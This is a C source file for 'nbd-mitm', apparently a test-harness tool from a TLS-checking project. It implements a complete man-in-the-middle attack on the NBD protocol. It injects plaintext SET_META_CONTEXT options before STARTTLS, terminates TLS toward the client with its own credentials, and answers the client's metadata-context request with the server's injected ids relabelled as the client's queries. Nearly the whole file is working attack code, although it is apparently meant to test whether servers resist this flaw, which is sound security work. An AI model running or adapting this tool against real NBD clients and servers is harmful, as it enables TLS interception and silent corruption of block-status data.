/* nbd-mitm: a man in the middle between an NBD client and a
 * SELECTIVETLS server, for the scenario in shared/seed/.
 * Copyright (C) 2026 the tlsguard authors.  BSD-3-Clause, see COPYING.
 *
 * For each client it accepts, nbd-mitm connects to the upstream server
 * and:
 *
 *  1. relays the greeting and the client's flags unchanged;
 *  2. when the client sends NBD_OPT_STARTTLS, first talks to the server
 *     in plaintext: NBD_OPT_STRUCTURED_REPLY, then
 *     NBD_OPT_SET_META_CONTEXT(inject-export, inject-context...),
 *     remembering the context ids the server gives, then
 *     NBD_OPT_STARTTLS and a TLS handshake as the client; only then
 *     does it ACK the client's STARTTLS and do the handshake as the
 *     server, with its own credentials;
 *  3. answers the client's NBD_OPT_SET_META_CONTEXT itself: one
 *     NBD_REP_META_CONTEXT per injected context, carrying the server's
 *     id and the name of the client's query in the same position (the
 *     injected name when the client asked for fewer), then NBD_REP_ACK.
 *     Every other option (STRUCTURED_REPLY, LIST, INFO, GO, ...) and
 *     its replies are relayed;
 *  4. after a successful GO (or EXPORT_NAME) relays requests and
 *     replies, whole messages at a time, until either side closes.
 *
 * A server that follows the spec forgets the injected contexts at
 * STARTTLS, so the client's BLOCK_STATUS fails with EINVAL.  A server
 * that keeps them answers with extents for the injected context, which
 * the client takes for the context it asked for.
 */

#include <config.h>

#include <stdbool.h>
#include <stdint.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <getopt.h>
#include <poll.h>
#include <unistd.h>

#include "wire.h"
#include "transport.h"
#include "listener.h"

#define NEGOTIATE_TIMEOUT  60000        /* ms, per read while negotiating */
#define HANDSHAKE_TIMEOUT  30000        /* ms */
#define MESSAGE_TIMEOUT    60000        /* ms, rest of a started message */
#define MAX_OPT_REPLY      (16 * 1024 * 1024)
#define MAX_DATA           (64 * 1024 * 1024)
#define MAX_INJECT         16

struct mitm {
  const char *up_unix, *up_tcp;
  struct tport_creds *server_creds;     /* towards the client */
  struct tport_creds *client_creds;     /* towards the server */
  const char *inject_export;
  const char *inject_ctx[MAX_INJECT];
  size_t ninject_ctx;
};

/* A READ in flight: its reply's payload length is known only from the
 * request when the reply is simple.
 */
struct inflight {
  uint64_t cookie;
  uint32_t length;
};

struct session {
  const struct mitm *m;
  struct tport *cl, *up;
  struct wire_buf out;
  bool no_zeroes;
  bool injected;
  size_t nids;
  uint32_t ids[MAX_INJECT];
  char *names[MAX_INJECT];
  struct inflight *reads;
  size_t nreads, capreads;
};

static void __attribute__((noreturn))
usage (FILE *fp, int status)
{
  fprintf (fp,
"usage: nbd-mitm (--listen-unix PATH | --listen-tcp HOST:PORT)\n"
"                (--upstream-unix PATH | --upstream-tcp HOST:PORT)\n"
"                (--tls-psk FILE [--tls-username NAME] | --tls-certs DIR)\n"
"                [--inject-export NAME] [--inject-context QUERY]...\n"
"                [--pidfile FILE] [--once] [-v]\n"
"\n"
"A man in the middle for the NBD STARTTLS metadata-context attack.  When\n"
"the client sends NBD_OPT_STARTTLS, nbd-mitm sends the server\n"
"NBD_OPT_STRUCTURED_REPLY and NBD_OPT_SET_META_CONTEXT in plaintext,\n"
"upgrades the server connection, then terminates TLS towards the client\n"
"with its own credentials.  It answers the client's SET_META_CONTEXT\n"
"itself with the server's ids for the injected contexts, and relays\n"
"everything else.\n"
"\n"
"  --listen-unix PATH, --listen-tcp HOST:PORT   accept clients here\n"
"                        (TCP: loopback only)\n"
"  --upstream-unix PATH, --upstream-tcp HOST:PORT   the real server\n"
"  --tls-psk FILE        PSK file: any user towards the client, the\n"
"                        --tls-username user (default qemu) upstream\n"
"  --tls-certs DIR       ca-cert.pem, server-cert.pem/server-key.pem\n"
"                        towards the client, client-cert.pem/client-key.pem\n"
"                        upstream\n"
"  --inject-export NAME  export named in the injected SET_META_CONTEXT\n"
"                        (default \"\", the default export)\n"
"  --inject-context QUERY  query to inject (repeatable; default\n"
"                        base:allocation)\n"
"  --pidfile FILE        write the PID here once listening\n"
"  --once                handle one client in-process, then exit\n"
"  -v, --verbose         log every step to stderr\n"
"  --help                this text\n");
  exit (status);
}

/* --- I/O helpers --------------------------------------------------- */

static const char *
side_name (const struct session *s, const struct tport *t)
{
  return t == s->cl ? "client" : "server";
}

/* Read exactly len bytes.  Returns 1, 0 on a clean EOF before the
 * first byte (only if eof_ok), or -1 (logged).
 */
static int
xread (struct session *s, struct tport *t, void *buf, size_t len,
       int timeout_ms, bool eof_ok)
{
  ssize_t r;

  if (len == 0)
    return 1;
  r = tport_read (t, buf, len, timeout_ms);
  if (r == -1) {
    log_msg ("reading from the %s: %s", side_name (s, t), tport_error (t));
    return -1;
  }
  if (r == 0 && eof_ok) {
    log_debug ("the %s closed the connection", side_name (s, t));
    return 0;
  }
  if ((size_t) r < len) {
    log_msg ("the %s closed the connection in the middle of a message",
             side_name (s, t));
    return -1;
  }
  return 1;
}

static int
xwrite (struct session *s, struct tport *t, const void *buf, size_t len)
{
  if (tport_write (t, buf, len) == -1) {
    log_msg ("writing to the %s: %s", side_name (s, t), tport_error (t));
    return -1;
  }
  return 0;
}

/* Send and empty s->out. */
static int
flush_to (struct session *s, struct tport *t)
{
  int r = 0;

  if (s->out.len)
    r = xwrite (s, t, s->out.data, s->out.len);
  wire_buf_reset (&s->out);
  return r;
}

/* Copy len bytes from one side to the other in pieces. */
static int
copy_bytes (struct session *s, struct tport *from, struct tport *to,
            uint64_t len)
{
  uint8_t buf[65536];

  while (len > 0) {
    size_t n = len > sizeof buf ? sizeof buf : len;
    if (xread (s, from, buf, n, MESSAGE_TIMEOUT, false) != 1 ||
        xwrite (s, to, buf, n) == -1)
      return -1;
    len -= n;
  }
  return 0;
}

static int
enc_check (int r)
{
  if (r != WIRE_OK) {
    log_msg ("encoding: %s", wire_status_name (r));
    return -1;
  }
  return 0;
}

/* Read one option reply from the server into hdr/payload (payload is
 * malloc'd, caller frees).  Returns 0 or -1.
 */
static int
read_opt_reply (struct session *s, struct wire_opt_reply *rep,
                uint8_t hdr[WIRE_OPT_REP_HDR_LEN], uint8_t **payload)
{
  int r;

  *payload = NULL;
  if (xread (s, s->up, hdr, WIRE_OPT_REP_HDR_LEN, NEGOTIATE_TIMEOUT,
             false) != 1)
    return -1;
  r = wire_dec_opt_reply_hdr (hdr, WIRE_OPT_REP_HDR_LEN, rep, MAX_OPT_REPLY);
  if (r != WIRE_OK) {
    log_msg ("bad option reply from the server: %s", wire_status_name (r));
    return -1;
  }
  *payload = malloc (rep->len ? rep->len : 1);
  if (*payload == NULL) {
    log_msg ("out of memory");
    return -1;
  }
  if (xread (s, s->up, *payload, rep->len, NEGOTIATE_TIMEOUT, false) != 1) {
    free (*payload);
    *payload = NULL;
    return -1;
  }
  return 0;
}

static bool
is_final (uint32_t type)
{
  return type == NBD_REP_ACK || (type & NBD_REP_FLAG_ERROR);
}

/* Send one option of our own to the server. */
static int
send_option (struct session *s, uint32_t opt, const void *data, uint32_t len)
{
  log_debug ("mitm -> server: %s (%" PRIu32 " bytes)%s", wire_opt_name (opt),
             len, tport_is_tls (s->up) ? " over TLS" : " in plaintext");
  if (enc_check (wire_enc_option (&s->out, opt, data, len)) == -1)
    return -1;
  return flush_to (s, s->up);
}

/* --- the injection (step 2) ---------------------------------------- */

/* Returns 1 if the server connection is now TLS, 0 if the server
 * refused STARTTLS (its error reply is in *refusal_type), -1 on error.
 */
static int
inject (struct session *s, uint32_t *refusal_type)
{
  const struct mitm *m = s->m;
  struct wire_opt_reply rep;
  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
  uint8_t *payload;
  size_t i;

  /* NBD_OPT_STRUCTURED_REPLY, so that SET_META_CONTEXT is valid. */
  if (send_option (s, NBD_OPT_STRUCTURED_REPLY, NULL, 0) == -1)
    return -1;
  do {
    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
      return -1;
    free (payload);
    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
  } while (!is_final (rep.type));
  if (rep.type != NBD_REP_ACK)
    log_msg ("the server refused NBD_OPT_STRUCTURED_REPLY in plaintext "
             "(%s)", wire_rep_name (rep.type));

  /* NBD_OPT_SET_META_CONTEXT for the injected export and contexts. */
  log_debug ("injecting SET_META_CONTEXT for export \"%s\"",
             m->inject_export);
  if (enc_check (wire_enc_opt_meta (&s->out, NBD_OPT_SET_META_CONTEXT,
                                    m->inject_export, m->inject_ctx,
                                    m->ninject_ctx)) == -1 ||
      flush_to (s, s->up) == -1)
    return -1;
  for (;;) {
    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
      return -1;
    if (rep.type == NBD_REP_META_CONTEXT) {
      struct wire_str name;
      uint32_t id;
      if (wire_dec_rep_meta_context (payload, rep.len, &id, &name)
          != WIRE_OK) {
        log_msg ("bad NBD_REP_META_CONTEXT from the server");
        free (payload);
        return -1;
      }
      if (s->nids < MAX_INJECT) {
        char *n = malloc (name.len + 1);
        if (n == NULL) {
          free (payload);
          log_msg ("out of memory");
          return -1;
        }
        if (name.len)
          memcpy (n, name.ptr, name.len);
        n[name.len] = '\0';
        s->ids[s->nids] = id;
        s->names[s->nids] = n;
        s->nids++;
        log_debug ("server -> mitm: NBD_REP_META_CONTEXT id %" PRIu32
                   " \"%s\"", id, n);
      }
    }
    else
      log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
    free (payload);
    if (is_final (rep.type))
      break;
  }
  if (rep.type != NBD_REP_ACK)
    log_msg ("the server refused the injected SET_META_CONTEXT in "
             "plaintext (%s)", wire_rep_name (rep.type));
  log_msg ("injected %zu context(s) for export \"%s\" in plaintext",
           s->nids, m->inject_export);
  for (i = 0; i < s->nids; ++i)
    log_msg ("  injected context id %" PRIu32 " = %s", s->ids[i],
             s->names[i]);

  /* NBD_OPT_STARTTLS upstream. */
  if (send_option (s, NBD_OPT_STARTTLS, NULL, 0) == -1)
    return -1;
  do {
    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
      return -1;
    free (payload);
    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
  } while (!is_final (rep.type));
  if (rep.type != NBD_REP_ACK) {
    log_msg ("the server refused NBD_OPT_STARTTLS (%s)",
             wire_rep_name (rep.type));
    *refusal_type = rep.type;
    return 0;
  }
  if (tport_starttls (s->up, m->client_creds, TPORT_CLIENT,
                      HANDSHAKE_TIMEOUT) == -1) {
    log_msg ("TLS handshake with the server failed: %s",
             tport_error (s->up));
    return -1;
  }
  log_debug ("TLS established with the server");
  return 1;
}

/* The client's STARTTLS. */
static int
client_starttls (struct session *s, uint32_t len)
{
  uint32_t refusal = 0;
  int r;

  if (len != 0) {
    log_msg ("the client sent a payload with STARTTLS; refusing it");
    return enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS,
                                          NBD_REP_ERR_INVALID, NULL, 0))
      ? -1 : flush_to (s, s->cl);
  }
  r = inject (s, &refusal);
  if (r == -1)
    return -1;
  if (r == 0) {
    /* Pass the server's refusal on; both sides stay in plaintext. */
    if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS, refusal,
                                       NULL, 0)) == -1)
      return -1;
    return flush_to (s, s->cl);
  }
  s->injected = true;

  log_debug ("mitm -> client: NBD_REP_ACK to STARTTLS");
  if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS, NBD_REP_ACK,
                                     NULL, 0)) == -1 ||
      flush_to (s, s->cl) == -1)
    return -1;
  if (tport_starttls (s->cl, s->m->server_creds, TPORT_SERVER,
                      HANDSHAKE_TIMEOUT) == -1) {
    log_msg ("TLS handshake with the client failed: %s",
             tport_error (s->cl));
    return -1;
  }
  log_debug ("TLS established with the client");
  return 0;
}

/* The client's SET_META_CONTEXT after the injection (step 3). */
static int
client_set_meta (struct session *s, const uint8_t *payload, uint32_t len)
{
  struct wire_meta_req mr;
  size_t i;
  int r;

  r = wire_dec_opt_meta (payload, len, &mr);
  if (r != WIRE_OK) {
    log_msg ("malformed SET_META_CONTEXT from the client (%s)",
             wire_status_name (r));
    if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_SET_META_CONTEXT,
                                       NBD_REP_ERR_INVALID, NULL, 0)))
      return -1;
    return flush_to (s, s->cl);
  }
  log_msg ("answering the client's SET_META_CONTEXT (export \"%.*s\", "
           "%" PRIu32 " queries) with the server's plaintext ids",
           (int) mr.exportname.len,
           mr.exportname.ptr ? mr.exportname.ptr : "", mr.nq);
  if (mr.nq > 0)
    for (i = 0; i < s->nids; ++i) {
      struct wire_str *q = i < mr.nq ? &mr.queries[i] : NULL;
      char name[WIRE_MAX_STRING + 1];

      if (q) {
        if (q->len)
          memcpy (name, q->ptr, q->len);
        name[q->len] = '\0';
      }
      else
        snprintf (name, sizeof name, "%s", s->names[i]);
      log_msg ("  mitm -> client: NBD_REP_META_CONTEXT id %" PRIu32
               " \"%s\" (really %s)", s->ids[i], name, s->names[i]);
      if (enc_check (wire_enc_rep_meta_context (&s->out,
                                                NBD_OPT_SET_META_CONTEXT,
                                                s->ids[i], name)))
        return -1;
    }
  if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_SET_META_CONTEXT,
                                     NBD_REP_ACK, NULL, 0)))
    return -1;
  return flush_to (s, s->cl);
}

/* Relay the server's replies to a forwarded option up to the final
 * one.  Returns that reply's type, or 0 on error.
 */
static uint32_t
relay_replies (struct session *s, uint32_t opt)
{
  struct wire_opt_reply rep;
  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
  uint8_t *payload;

  do {
    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
      return 0;
    log_debug ("server -> client: %s (%" PRIu32 " bytes)",
               wire_rep_name (rep.type), rep.len);
    if (xwrite (s, s->cl, hdr, sizeof hdr) == -1 ||
        xwrite (s, s->cl, payload, rep.len) == -1) {
      free (payload);
      return 0;
    }
    free (payload);
  } while (!is_final (rep.type));
  return rep.type;
}

enum { NEG_CLOSE = -1, NEG_TRANSMIT = 1 };

static int
negotiate (struct session *s)
{
  uint8_t hdr[WIRE_OPT_REQ_HDR_LEN];
  uint8_t *payload;
  int ret = NEG_CLOSE;

  payload = malloc (WIRE_MAX_OPT_PAYLOAD);
  if (payload == NULL) {
    log_msg ("out of memory");
    return NEG_CLOSE;
  }

  for (;;) {
    struct wire_opt_req req;
    uint32_t final;
    int r;

    r = xread (s, s->cl, hdr, sizeof hdr, NEGOTIATE_TIMEOUT, true);
    if (r != 1)
      break;
    r = wire_dec_opt_req_hdr (hdr, sizeof hdr, &req, WIRE_MAX_OPT_PAYLOAD);
    if (r != WIRE_OK) {
      log_msg ("bad option header from the client (%s)",
               wire_status_name (r));
      break;
    }
    if (xread (s, s->cl, payload, req.len, NEGOTIATE_TIMEOUT, false) != 1)
      break;
    log_debug ("client -> mitm: %s (%" PRIu32 " bytes)%s",
               wire_opt_name (req.opt), req.len,
               tport_is_tls (s->cl) ? " over TLS" : " in plaintext");

    if (req.opt == NBD_OPT_STARTTLS && !tport_is_tls (s->cl)) {
      if (client_starttls (s, req.len) == -1)
        break;
      continue;
    }
    if (req.opt == NBD_OPT_SET_META_CONTEXT && s->injected) {
      if (client_set_meta (s, payload, req.len) == -1)
        break;
      continue;
    }

    /* Everything else goes to the server as it is. */
    log_debug ("client -> server: %s", wire_opt_name (req.opt));
    if (xwrite (s, s->up, hdr, sizeof hdr) == -1 ||
        xwrite (s, s->up, payload, req.len) == -1)
      break;

    if (req.opt == NBD_OPT_EXPORT_NAME) {
      uint8_t rep[WIRE_EXPORT_NAME_REPLY_LEN + 124];
      size_t n = WIRE_EXPORT_NAME_REPLY_LEN + (s->no_zeroes ? 0 : 124);
      if (xread (s, s->up, rep, n, NEGOTIATE_TIMEOUT, false) != 1 ||
          xwrite (s, s->cl, rep, n) == -1)
        break;
      ret = NEG_TRANSMIT;
      break;
    }
    if (req.opt == NBD_OPT_ABORT) {
      relay_replies (s, req.opt);
      break;
    }
    final = relay_replies (s, req.opt);
    if (final == 0)
      break;
    if (req.opt == NBD_OPT_GO && final == NBD_REP_ACK) {
      ret = NEG_TRANSMIT;
      break;
    }
  }
  free (payload);
  return ret;
}

/* --- transmission (step 4) ----------------------------------------- */

static int
reads_add (struct session *s, uint64_t cookie, uint32_t length)
{
  if (s->nreads == s->capreads) {
    size_t cap = s->capreads ? s->capreads * 2 : 64;
    struct inflight *p;
    if (cap > 65536) {
      log_msg ("too many reads in flight");
      return -1;
    }
    p = realloc (s->reads, cap * sizeof *p);
    if (p == NULL) {
      log_msg ("out of memory");
      return -1;
    }
    s->reads = p;
    s->capreads = cap;
  }
  s->reads[s->nreads].cookie = cookie;
  s->reads[s->nreads].length = length;
  s->nreads++;
  return 0;
}

/* Remove a READ from the table; returns its length, or -1 if the
 * cookie is not a READ in flight.
 */
static int64_t
reads_take (struct session *s, uint64_t cookie)
{
  size_t i;

  for (i = 0; i < s->nreads; ++i)
    if (s->reads[i].cookie == cookie) {
      uint32_t len = s->reads[i].length;
      s->reads[i] = s->reads[--s->nreads];
      return len;
    }
  return -1;
}

/* One request from the client.  Returns 1, 0 at EOF, -1 on error. */
static int
relay_request (struct session *s)
{
  uint8_t hdr[WIRE_REQUEST_LEN];
  struct wire_request rq;
  int r;

  r = xread (s, s->cl, hdr, 4, -1, true);
  if (r != 1)
    return r;
  if (xread (s, s->cl, hdr + 4, sizeof hdr - 4, MESSAGE_TIMEOUT, false) != 1)
    return -1;
  r = wire_dec_request (hdr, sizeof hdr, &rq);
  if (r != WIRE_OK) {
    log_msg ("bad request from the client (%s)", wire_status_name (r));
    return -1;
  }
  log_debug ("client -> server: %s cookie %" PRIu64 " offset %" PRIu64
             " length %" PRIu32, wire_cmd_name (rq.type), rq.cookie,
             rq.offset, rq.length);
  if (rq.type == NBD_CMD_READ && reads_add (s, rq.cookie, rq.length) == -1)
    return -1;
  if (xwrite (s, s->up, hdr, sizeof hdr) == -1)
    return -1;
  if (rq.type == NBD_CMD_WRITE) {
    if (rq.length > MAX_DATA) {
      log_msg ("write of %" PRIu32 " bytes is too large", rq.length);
      return -1;
    }
    if (copy_bytes (s, s->cl, s->up, rq.length) == -1)
      return -1;
  }
  return 1;
}

static void
log_chunk (const struct wire_reply *rp, const uint8_t *payload)
{
  if (rp->type == NBD_REPLY_TYPE_BLOCK_STATUS) {
    struct wire_extent ext[64];
    uint32_t id;
    size_t n = 0, i;
    int r = wire_dec_chunk_block_status (payload, rp->len, &id, ext, 64, &n);
    if (r == WIRE_OK || r == WIRE_ETOOBIG) {
      log_msg ("server -> client: block status for context id %" PRIu32
               ", %zu extent(s)", wire_get_u32 (payload), n);
      for (i = 0; i < n && r == WIRE_OK; ++i)
        log_debug ("  extent %" PRIu32 " flags 0x%" PRIx32,
                   ext[i].length, ext[i].flags);
    }
  }
  else if (rp->type & (1u << 15)) {
    struct wire_str msg;
    uint32_t err;
    if (wire_dec_chunk_error (payload, rp->len, rp->type, &err, &msg,
                              NULL) == WIRE_OK)
      log_msg ("server -> client: error chunk %s: %.*s",
               wire_errno_name (err), (int) msg.len,
               msg.ptr ? msg.ptr : "");
  }
}

/* One reply message (a simple reply or one chunk) from the server. */
static int
relay_reply (struct session *s)
{
  uint8_t hdr[WIRE_CHUNK_HDR_LEN];
  struct wire_reply rp;
  size_t need = 4;
  int r;

  r = xread (s, s->up, hdr, 4, -1, true);
  if (r != 1)
    return r;
  r = wire_dec_reply_hdr (hdr, 4, &rp, &need, MAX_DATA);
  if (r == WIRE_SHORT) {
    if (xread (s, s->up, hdr + 4, need - 4, MESSAGE_TIMEOUT, false) != 1)
      return -1;
    r = wire_dec_reply_hdr (hdr, need, &rp, &need, MAX_DATA);
  }
  if (r != WIRE_OK) {
    log_msg ("bad reply from the server (%s)", wire_status_name (r));
    return -1;
  }
  if (xwrite (s, s->cl, hdr, need) == -1)
    return -1;

  if (!rp.structured) {
    int64_t rlen = reads_take (s, rp.cookie);
    log_debug ("server -> client: simple reply cookie %" PRIu64 " error %s",
               rp.cookie, rp.error ? wire_errno_name (rp.error) : "0");
    if (rp.error)
      log_msg ("server -> client: simple error reply %s",
               wire_errno_name (rp.error));
    if (rlen > 0 && rp.error == 0)
      return copy_bytes (s, s->up, s->cl, rlen) == -1 ? -1 : 1;
    return 1;
  }

  log_debug ("server -> client: chunk %s cookie %" PRIu64 " flags 0x%x "
             "length %" PRIu32, wire_chunk_name (rp.type), rp.cookie,
             rp.flags, rp.len);
  if (rp.flags & NBD_REPLY_FLAG_DONE)
    reads_take (s, rp.cookie);
  if (rp.type == NBD_REPLY_TYPE_BLOCK_STATUS || (rp.type & (1u << 15))) {
    /* Small: read it whole so that it can be logged. */
    uint8_t *payload;
    if (rp.len > 8 * 1024 * 1024 + 4) {
      log_msg ("oversized chunk from the server");
      return -1;
    }
    payload = malloc (rp.len ? rp.len : 1);
    if (payload == NULL) {
      log_msg ("out of memory");
      return -1;
    }
    if (xread (s, s->up, payload, rp.len, MESSAGE_TIMEOUT, false) != 1 ||
        xwrite (s, s->cl, payload, rp.len) == -1) {
      free (payload);
      return -1;
    }
    log_chunk (&rp, payload);
    free (payload);
    return 1;
  }
  return copy_bytes (s, s->up, s->cl, rp.len) == -1 ? -1 : 1;
}

static int
transmit (struct session *s)
{
  for (;;) {
    int a, b, r;

    a = tport_wait_readable (s->cl, 0);
    b = tport_wait_readable (s->up, 0);
    if (a == -1 || b == -1) {
      log_msg ("poll: %m");
      return -1;
    }
    if (a == 0 && b == 0) {
      struct pollfd pfd[2] = {
        { .fd = tport_fd (s->cl), .events = POLLIN },
        { .fd = tport_fd (s->up), .events = POLLIN },
      };
      if (poll (pfd, 2, -1) == -1 && errno != EINTR) {
        log_msg ("poll: %m");
        return -1;
      }
      continue;
    }
    if (a) {
      r = relay_request (s);
      if (r <= 0)
        return r;
    }
    if (b) {
      r = relay_reply (s);
      if (r <= 0)
        return r;
    }
  }
}

/* --- one client ---------------------------------------------------- */

static int
handle_client (int fd, void *opaque)
{
  const struct mitm *m = opaque;
  struct session s;
  uint8_t buf[WIRE_GREETING_LEN];
  uint16_t hflags;
  uint32_t cflags;
  int upfd, status = 1;
  size_t i;

  memset (&s, 0, sizeof s);
  s.m = m;
  wire_buf_init (&s.out);
  s.cl = tport_new (fd);
  if (s.cl == NULL) {
    log_msg ("tport_new: %m");
    close (fd);
    return 1;
  }
  upfd = m->up_unix ? tport_connect_unix (m->up_unix)
    : tport_connect_tcp (m->up_tcp);
  if (upfd == -1) {
    log_msg ("cannot connect to the server %s: %m",
             m->up_unix ? m->up_unix : m->up_tcp);
    goto out;
  }
  s.up = tport_new (upfd);
  if (s.up == NULL) {
    log_msg ("tport_new: %m");
    close (upfd);
    goto out;
  }
  log_debug ("client accepted; connected to the server");

  /* Step 1: greeting and flags, unchanged. */
  if (xread (&s, s.up, buf, WIRE_GREETING_LEN, NEGOTIATE_TIMEOUT,
             false) != 1)
    goto out;
  if (wire_dec_greeting (buf, WIRE_GREETING_LEN, &hflags) != WIRE_OK ||
      !(hflags & NBD_FLAG_FIXED_NEWSTYLE)) {
    log_msg ("the server is not a fixed newstyle server");
    goto out;
  }
  log_debug ("server -> client: greeting, flags 0x%x", hflags);
  if (xwrite (&s, s.cl, buf, WIRE_GREETING_LEN) == -1 ||
      xread (&s, s.cl, buf, 4, NEGOTIATE_TIMEOUT, false) != 1)
    goto out;
  wire_dec_client_flags (buf, 4, &cflags);
  log_debug ("client -> server: flags 0x%" PRIx32, cflags);
  if (!(cflags & NBD_FLAG_C_FIXED_NEWSTYLE)) {
    log_msg ("the client does not speak fixed newstyle");
    goto out;
  }
  s.no_zeroes = (cflags & NBD_FLAG_C_NO_ZEROES) &&
    (hflags & NBD_FLAG_NO_ZEROES);
  if (xwrite (&s, s.up, buf, 4) == -1)
    goto out;

  /* Steps 2 and 3. */
  if (negotiate (&s) != NEG_TRANSMIT) {
    status = 0;
    goto out;
  }
  log_debug ("transmission phase: relaying");

  /* Step 4. */
  status = transmit (&s) == 0 ? 0 : 1;
  log_debug ("connection finished");

 out:
  tport_free (s.cl);
  tport_free (s.up);
  wire_buf_free (&s.out);
  for (i = 0; i < s.nids; ++i)
    free (s.names[i]);
  free (s.reads);
  return status;
}

/* --- main ---------------------------------------------------------- */

int
main (int argc, char *argv[])
{
  enum { OPT_LUNIX = 256, OPT_LTCP, OPT_UUNIX, OPT_UTCP, OPT_PSK, OPT_USER,
         OPT_CERTS, OPT_IEXPORT, OPT_ICTX, OPT_PIDFILE, OPT_ONCE, OPT_HELP };
  static const struct option long_opts[] = {
    { "listen-unix", required_argument, NULL, OPT_LUNIX },
    { "listen-tcp", required_argument, NULL, OPT_LTCP },
    { "upstream-unix", required_argument, NULL, OPT_UUNIX },
    { "upstream-tcp", required_argument, NULL, OPT_UTCP },
    { "tls-psk", required_argument, NULL, OPT_PSK },
    { "tls-username", required_argument, NULL, OPT_USER },
    { "tls-certs", required_argument, NULL, OPT_CERTS },
    { "inject-export", required_argument, NULL, OPT_IEXPORT },
    { "inject-context", required_argument, NULL, OPT_ICTX },
    { "pidfile", required_argument, NULL, OPT_PIDFILE },
    { "once", no_argument, NULL, OPT_ONCE },
    { "verbose", no_argument, NULL, 'v' },
    { "help", no_argument, NULL, OPT_HELP },
    { NULL, 0, NULL, 0 },
  };
  struct mitm m;
  struct listener_cfg lc = { NULL, NULL, NULL, false };
  struct tport_creds_cfg cc = { NULL, NULL, NULL, false };
  bool is_child;
  struct error err;
  int c, status;

  log_progname = "nbd-mitm";
  memset (&m, 0, sizeof m);
  m.inject_export = "";

  while ((c = getopt_long (argc, argv, "v", long_opts, NULL)) != -1) {
    switch (c) {
    case OPT_LUNIX: lc.unix_path = optarg; break;
    case OPT_LTCP: lc.tcp = optarg; break;
    case OPT_UUNIX: m.up_unix = optarg; break;
    case OPT_UTCP: m.up_tcp = optarg; break;
    case OPT_PSK: cc.psk_file = optarg; break;
    case OPT_USER: cc.psk_username = optarg; break;
    case OPT_CERTS: cc.x509_dir = optarg; break;
    case OPT_IEXPORT: m.inject_export = optarg; break;
    case OPT_ICTX:
      if (m.ninject_ctx == MAX_INJECT) {
        fprintf (stderr, "nbd-mitm: at most %d --inject-context\n",
                 MAX_INJECT);
        usage (stderr, 1);
      }
      m.inject_ctx[m.ninject_ctx++] = optarg;
      break;
    case OPT_PIDFILE: lc.pidfile = optarg; break;
    case OPT_ONCE: lc.once = true; break;
    case 'v': log_verbose = 1; break;
    case OPT_HELP: usage (stdout, 0);
    default: usage (stderr, 1);
    }
  }
  if (optind != argc || (lc.unix_path == NULL) == (lc.tcp == NULL)) {
    fprintf (stderr,
             "nbd-mitm: give exactly one of --listen-unix and --listen-tcp\n");
    usage (stderr, 1);
  }
  if ((m.up_unix == NULL) == (m.up_tcp == NULL)) {
    fprintf (stderr, "nbd-mitm: give exactly one of --upstream-unix and "
             "--upstream-tcp\n");
    usage (stderr, 1);
  }
  if ((cc.psk_file == NULL) == (cc.x509_dir == NULL)) {
    fprintf (stderr,
             "nbd-mitm: give exactly one of --tls-psk and --tls-certs\n");
    usage (stderr, 1);
  }
  if (m.ninject_ctx == 0)
    m.inject_ctx[m.ninject_ctx++] = "base:allocation";

  tport_global_init (0);
  m.server_creds = tport_creds_new (TPORT_SERVER, &cc, &err);
  if (m.server_creds == NULL) {
    log_msg ("cannot load server-side TLS credentials: %s", err.msg);
    return 1;
  }
  m.client_creds = tport_creds_new (TPORT_CLIENT, &cc, &err);
  if (m.client_creds == NULL) {
    log_msg ("cannot load client-side TLS credentials: %s", err.msg);
    tport_creds_free (m.server_creds);
    return 1;
  }

  status = listener_run (&lc, handle_client, &m, &is_child);

  tport_creds_free (m.server_creds);
  tport_creds_free (m.client_creds);
  return status;
}
